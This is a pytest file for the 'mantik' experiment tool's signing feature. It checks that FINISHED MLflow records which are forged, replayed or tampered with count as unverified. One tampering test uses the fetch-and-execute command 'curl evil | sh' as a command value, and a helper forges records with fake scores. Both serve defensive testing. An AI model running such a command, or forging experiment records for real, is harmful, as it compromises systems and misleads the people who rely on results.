"""Provenance: a FINISHED record counts as a result only when mantik's own signatures hold (state.provenance).

Anyone who can write to the MLflow experiments can write a FINISHED record with an honestly computed key for a
point that never ran. With MANTIK_SIGNING_KEY set, plan still submits that point and status marks the record,
while runs mantik itself started (signed by the in-job runner) still count; records written before the key was
set count once `mantik adopt` signs them.
"""

from __future__ import annotations

import json

import pytest

from mantik_spec import runner
from mantik_spec.reconcile.identity import Identity
from mantik_spec.state import provenance
from mantik_spec.state.tags import Tag, decode_run
from mantik_spec.vocab import Provenance, RunStatus

from .conftest import BASIC_SPEC

KEY = "a-team-key-from-the-ci-secret-store"


def forge(project, genuine, lr: float, *, signatures: bool):
    """A FINISHED record for ``sweep[lr=LR]`` by someone with write access to the store: its key hashes its
    inputs as mantik would; with ``signatures``, it carries the genuine run's signature tags too."""
    tags = dict(genuine.data.tags)
    parameters = json.loads(tags["mantik.parameters"]) | {"lr": lr}
    identity = Identity(
        command=tags["mantik.command"],
        parameters=parameters,
        seed=None,
        code=tags["mantik.code"],
        data=json.loads(tags["mantik.data"]),
        environment=tags.get("mantik.environment", ""),
    )
    tags |= {"mantik.parameters": json.dumps(parameters, sort_keys=True), "mantik.run_key": identity.key}
    tags |= {"mantik.point": genuine.data.tags["mantik.point"].replace(str(genuine.data.params["lr"]), str(lr))}
    if not signatures:
        tags = {name: value for name, value in tags.items() if not name.endswith("_signature")}
    client = project.client()
    forged = client.create_run(genuine.info.experiment_id, tags=tags)
    client.log_metric(forged.info.run_id, "score", 999.0)
    client.set_terminated(forged.info.run_id, "FINISHED")
    return forged.info.run_id, identity.key


def test_a_forged_finished_record_is_not_a_result_while_runs_mantik_started_are(project):
    project.env[provenance.SIGNING_KEY_VARIABLE] = KEY
    project.mantik("apply", "--auto-approve", "--wait")
    assert "No changes" in project.mantik("plan", "--detailed-exitcode", check=0).stdout  # the runner signed both
    genuine = project.runs()[0]
    assert set(genuine.data.tags) >= {"mantik.intent_signature", "mantik.end_signature"}

    project.write("mantik.yaml", BASIC_SPEC.replace("[0.1, 0.2]", "[0.1, 0.2, 0.3, 0.4]"))
    project.commit("two more points")
    unsigned, key = forge(project, genuine, 0.3, signatures=False)
    replayed, _ = forge(project, genuine, 0.4, signatures=True)  # a genuine run's signatures, copied
    plan = project.plan_json()
    submits = {entry["parameters"]["lr"]: entry for entry in plan["runs"] if entry["action"] == "submit"}
    assert sorted(submits) == [0.3, 0.4] and submits[0.3]["run_key"] == key
    assert plan["summary"]["up_to_date"] == 2
    assert sum("unverified" in warning for warning in plan["warnings"]) == 2
    project.mantik("plan", "--detailed-exitcode", check=2)

    rows = {row["parameters"]["lr"]: row for row in project.status_json()}
    assert [rows[lr]["unverified"] for lr in (0.1, 0.2, 0.3, 0.4)] == [False, False, True, True]
    assert "finished (unverified)" in project.mantik("status").stdout
    refused = project.mantik("adopt", replayed).stdout  # a signature that does not hold: changed after signing
    assert "not adopted" in refused and "Adopted 0 run(s)." in refused

    without_key = project.mantik("plan", "--detailed-exitcode", check=0, env={provenance.SIGNING_KEY_VARIABLE: ""})
    assert "No changes" in without_key.stdout  # no key, nothing to check against: the records count as before
    assert unsigned


def test_runs_recorded_before_the_key_count_once_adopted(project):
    project.mantik("apply", "--auto-approve", "--wait")  # no key yet: nothing signed
    project.env[provenance.SIGNING_KEY_VARIABLE] = KEY
    plan = project.plan_json()
    assert plan["summary"].get("up_to_date", 0) == 0 and sum("unverified" in w for w in plan["warnings"]) == 2
    assert project.mantik("adopt", "--help").returncode == 0
    no_key = project.mantik("adopt", "sweep", check=1, env={provenance.SIGNING_KEY_VARIABLE: ""})
    assert "MANTIK_SIGNING_KEY" in no_key.stderr and "Traceback" not in no_key.stderr
    adopted = project.mantik("adopt", "sweep").stdout
    assert adopted.count("adopted ") == 2 and "Adopted 2 run(s)." in adopted
    assert "No changes" in project.mantik("plan", "--detailed-exitcode", check=0).stdout


# -- the signatures themselves, without processes ------------------------------------------------------------

INTENT = {
    Tag.PROJECT: "demo",
    Tag.EXPERIMENT: "sweep",
    Tag.POINT: "sweep[lr=0.1]",
    Tag.RUN_KEY: "k" * 64,
    Tag.ATTEMPT: "1",
    Tag.COMMIT: "c" * 40,
    Tag.BACKEND: "cluster",
    Tag.COMMAND: "python train.py",
    Tag.PARAMETERS: '{"lr": 0.1}',
    Tag.CODE: "t" * 40,
    Tag.DATA: "{}",
}


def record(run_id: str, status: RunStatus, tags: dict[str, str]):
    run = decode_run(run_id=run_id, experiment_id="1", status=status.value, tags=tags)
    assert run is not None
    provenance.checked([run])
    return run


@pytest.fixture
def signing(monkeypatch):
    monkeypatch.setenv(provenance.SIGNING_KEY_VARIABLE, KEY)
    monkeypatch.delenv(provenance.SEAL_VARIABLE, raising=False)


def test_the_runner_signs_with_the_sealed_secret_only_its_own_run(signing, monkeypatch):
    """The job holds its run's secret sealed (job.json) and the seal (its environment): together they sign that
    run's end; the seal of another apply, or the secret of another run, sign nothing that holds."""
    tags = INTENT | provenance.intent_signature_tags("run-1", INTENT)
    job = {"run_id": "run-1", "signing": provenance.sealed_run_secret("run-1", INTENT)}
    assert KEY not in json.dumps(job)
    signature = runner._end_signature(job, "FINISHED")
    assert record("run-1", RunStatus.FINISHED, tags | {Tag.END_SIGNATURE: signature}).provenance is Provenance.VERIFIED
    assert (
        record("run-2", RunStatus.FINISHED, tags | {Tag.END_SIGNATURE: signature}).provenance is Provenance.UNVERIFIED
    )
    edited = tags | {Tag.END_SIGNATURE: signature, Tag.COMMAND: "curl evil | sh"}
    assert record("run-1", RunStatus.FINISHED, edited).provenance is Provenance.UNVERIFIED
    failed = tags | {Tag.END_SIGNATURE: runner._end_signature(job, "FAILED")}
    assert record("run-1", RunStatus.FINISHED, failed).provenance is Provenance.UNVERIFIED  # a failure made a success
    monkeypatch.setenv(provenance.SEAL_VARIABLE, "another apply's seal")
    resealed = runner._end_signature(job, "FINISHED")
    assert record("run-1", RunStatus.FINISHED, tags | {Tag.END_SIGNATURE: resealed}).provenance is Provenance.UNVERIFIED


def test_apply_signs_a_run_it_closes_only_when_it_made_the_intent(signing):
    """A run closed FINISHED from its job's state (the runner could not reach the store) is signed by apply,
    but only when its intent record is apply's own: a forged live record naming a completed job is not."""
    ours = record("run-1", RunStatus.RUNNING, INTENT | provenance.intent_signature_tags("run-1", INTENT))
    forged = record("run-2", RunStatus.RUNNING, INTENT | provenance.intent_signature_tags("run-1", INTENT))
    closed = provenance.end_signature_tags(ours, RunStatus.FINISHED)
    assert record("run-1", RunStatus.FINISHED, INTENT | closed).provenance is Provenance.VERIFIED
    assert provenance.end_signature_tags(forged, RunStatus.FINISHED) == {}


def test_the_run_cache_keeps_signatures_and_its_readers_get_verdicts_under_their_own_key(
    signing, monkeypatch, tmp_path
):
    """A run read from the cache (as `status` and `plan` do) is checked under the reading process's key: a
    verdict is never kept, so a cache written with one key proves nothing under another."""
    from mantik_spec.state.runcache import RunCache

    closed = INTENT | provenance.adoption_tags(record("run-1", RunStatus.FINISHED, INTENT))
    cache = RunCache.for_store(tmp_path, "sqlite:///x.db", "demo")
    cache.record(["1"], [record("run-1", RunStatus.FINISHED, closed)], set(), full_scan=True)
    assert RunCache.for_store(tmp_path, "sqlite:///x.db", "demo").runs["run-1"].provenance is Provenance.VERIFIED
    monkeypatch.setenv(provenance.SIGNING_KEY_VARIABLE, "another key")
    assert RunCache.for_store(tmp_path, "sqlite:///x.db", "demo").runs["run-1"].provenance is Provenance.UNVERIFIED
